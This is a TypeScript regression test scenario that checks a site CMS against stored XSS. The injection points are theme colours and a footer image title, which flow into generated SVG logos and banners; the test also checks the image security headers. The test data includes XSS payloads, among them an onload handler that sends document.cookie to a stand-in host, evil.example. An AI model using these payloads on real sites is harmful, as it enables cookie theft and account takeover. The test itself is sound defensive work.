/**
 * Issue 43, finding 2: an editor of one site plants markup through the theme's colours (the admin
 * API, and the settings file import) and the site name into the generated logo and banner; the
 * shop's pictures carry a CSP and nosniff; a malformed colour is a 4xx, never a 500, and never
 * breaks the club's pictures.
 */
import { type Answer, send } from '../http.ts';
import { type Check, check, type Scenario } from '../scenario.ts';

const hostile =
  '#fff" onload="fetch(\'https://evil.example/?\'+document.cookie)"/><script>alert(1)</script><x a="';

export const generatedPictures: Scenario = {
  id: 'generated-pictures',
  title:
    'stored XSS via theme colour into generated SVGs; CSP and nosniff on images; malformed colour not 500',
  async run({ cast, front, hostOf }) {
    const { editor } = cast;
    const checks: Check[] = [];
    const path = '/sites/northbridge-gb/settings';
    const read = await editor.api('GET', path);
    const theming = (read.json?.theming ?? {}) as Record<string, string>;
    const attempts: string[] = [];
    for (const [field, value] of [
      ['primaryColor', hostile],
      ['secondaryColor', 'red;}</style><script>alert(1)</script>'],
      ['textColor', '#12345'],
      ['primaryColor', 'url(javascript:alert(1))'],
    ] as const) {
      const answer = await editor.patch(path, { theming: { ...theming, [field]: value } });
      attempts.push(`${field}=${value.slice(0, 12)}… ${answer.status}`);
    }
    const statuses = attempts.map((line) => Number(line.split(' ').at(-1)));
    checks.push(
      check(
        'hostile and malformed colours refused by the admin API with 400 (never 200, never 500)',
        statuses.every((status) => status === 400),
        attempts.join('; '),
      ),
    );

    const file = await editor.api('GET', '/sites/northbridge-gb/export/settings');
    const document = (file.json ?? {}) as { settings?: { theming?: Record<string, string> } };
    const planted = JSON.stringify({
      ...document,
      settings: { ...document.settings, theming: { ...document.settings?.theming, primaryColor: hostile } },
    });
    const imported = await editor.api('POST', '/sites/northbridge-gb/import/settings', planted);
    const afterImport = await editor.api('GET', path);
    checks.push(
      check(
        'a hostile colour in an imported settings file is refused (4xx, nothing written)',
        imported.status >= 400 && imported.status < 500 && !afterImport.body.includes('onload'),
        `export ${file.status}, import ${imported.status} ${imported.json?.report?.bad?.[0]?.where ?? ''}; stored colour ${JSON.stringify(afterImport.json?.theming?.primaryColor)}`,
      ),
    );

    // The stadium's name (the footer picture's title) is free text: the banner must escape it.
    const footer = (read.json?.footer ?? {}) as { image?: Record<string, unknown> };
    const stadium = 'Bridge Park"/><script>alert(2)</script><x a="';
    const renamed = await editor.patch(path, {
      footer: { ...footer, image: { ...footer.image, title: stadium } },
    });
    const pictures: Array<[string, Answer]> = [];
    for (const picture of [
      '/media/logo/northbridge.svg',
      '/media/banner/northbridge/hero.svg',
      '/images/media/logo/northbridge.svg?width=120',
      '/images/media/banner/northbridge/hero.svg?width=320',
    ]) {
      pictures.push([
        picture,
        await send(`${front}${picture}`, { headers: { host: hostOf('northbridge-gb') }, from: '127.0.0.31' }),
      ]);
    }
    const unsafe = pictures.filter(([, answer]) => /<script|onload=|javascript:/i.test(answer.body));
    checks.push(
      check(
        'generated logo and banner hold no script or handler (the stadium name escaped)',
        renamed.status === 200 && unsafe.length === 0 && pictures.every(([, a]) => a.status === 200),
        `stadium name set ${renamed.status} ${renamed.status === 200 ? '' : renamed.body.slice(0, 160)}; the banner ${pictures[1]?.[1].body.includes('alert(2)') ? 'shows it escaped' : 'does not show it yet'}; ${pictures.map(([p, a]) => `${p} ${a.status}`).join(', ')}; unsafe: ${unsafe.map(([p]) => p).join(', ') || 'none'}`,
      ),
    );
    const headerProblems = pictures
      .filter(
        ([, answer]) =>
          !/default-src 'none'/.test(String(answer.headers['content-security-policy'] ?? '')) ||
          !/sandbox/.test(String(answer.headers['content-security-policy'] ?? '')) ||
          answer.headers['x-content-type-options'] !== 'nosniff',
      )
      .map(
        ([picture, answer]) =>
          `${picture}: csp=${answer.headers['content-security-policy']} nosniff=${answer.headers['x-content-type-options']}`,
      );
    checks.push(
      check(
        'every picture through Varnish carries a CSP (default-src none, sandbox) and nosniff',
        headerProblems.length === 0,
        headerProblems.join('; ') || `${pictures.length} pictures checked`,
      ),
    );
    await editor.patch(path, { footer });
    return checks;
  },
};
